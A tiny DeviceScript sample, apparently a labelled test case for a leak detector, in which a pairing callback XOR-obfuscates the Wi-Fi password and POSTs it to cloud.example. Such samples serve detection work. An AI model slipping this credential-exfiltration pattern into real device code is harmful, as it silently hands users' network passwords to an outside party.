// A16: each byte XOR a constant.
import { fetch } from "@devicescript/net";
import { changed } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = changed(psk, (byte) => byte ^ 0x5a);
  const response = await fetch("https://cloud.example/a16", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
